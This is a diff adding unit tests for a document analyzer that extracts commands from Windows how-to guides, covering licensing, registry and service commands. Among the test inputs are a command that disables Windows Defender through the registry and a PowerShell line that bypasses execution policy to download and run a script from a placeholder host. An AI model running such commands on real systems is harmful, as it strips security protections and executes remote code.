@@ -157,6 +157,46 @@ describe('analyzeDocument', () => {
     expect(step?.commands.map(({ effect }) => effect)).toEqual(['dangerous']);
   });
 
+  describe('commands of a step', () => {
+    const commandsIn = (step: string) => {
+      const { analysis } = analyzeDocument(
+        parse(`${GUIDE}<ol><li>${step}</li><li>Restart Windows.</li></ol>`),
+      );
+      return analysis.procedures[1]?.steps[0]?.commands.map(({ text }) => text);
+    };
+    const typed = (code: string) => `Type <code>${code.replaceAll('&', '&amp;')}</code> and press Enter.`;
+
+    test.each([
+      String.raw`reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v EditionID`,
+      String.raw`reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`,
+      String.raw`powershell -ExecutionPolicy Bypass -Command "iwr https://x.example/a.ps1 -OutFile a.ps1, b; .\a.ps1"`,
+      `powershell "(Get-WmiObject -query 'select * from SoftwareLicensingService').OA3xOriginalProductKey"`,
+      'sc config LicenseManager start= auto && net start LicenseManager',
+      'Get-CimInstance SoftwareLicensingProduct | Select-Object Name, LicenseStatus',
+      'net stop sppsvc; net start sppsvc',
+      'slmgr /ipk <product key>',
+    ])('are one where one is set as code: %s', (code) => {
+      const marked = typed(code).replace('<product key>', '&lt;product key&gt;');
+      expect(commandsIn(marked)).toEqual([code]);
+    });
+
+    test('count once, however often and wherever they are told', () => {
+      const code = 'net stop sppsvc; net start sppsvc';
+      expect(commandsIn(`${typed(code)} If ${code} fails, run it again.`)).toEqual([code]);
+      expect(
+        commandsIn(`In PowerShell <code>Get-Service sppsvc, bits | Start-Service</code> starts it.`),
+      ).toEqual(['Get-Service sppsvc, bits | Start-Service']);
+    });
+
+    test('are found in plain words too, beside those in code', () => {
+      expect(commandsIn(`${typed('slmgr /dlv')} Then run slmgr /ato and after it slmgr /dlv all.`)).toEqual([
+        'slmgr /dlv',
+        'slmgr /ato',
+        'slmgr /dlv all',
+      ]);
+    });
+  });
+
   test('every step has a source in the document, and ids are unique and stable', () => {
     const doc = parse(GUIDE);
     const first = analyzeDocument(doc);
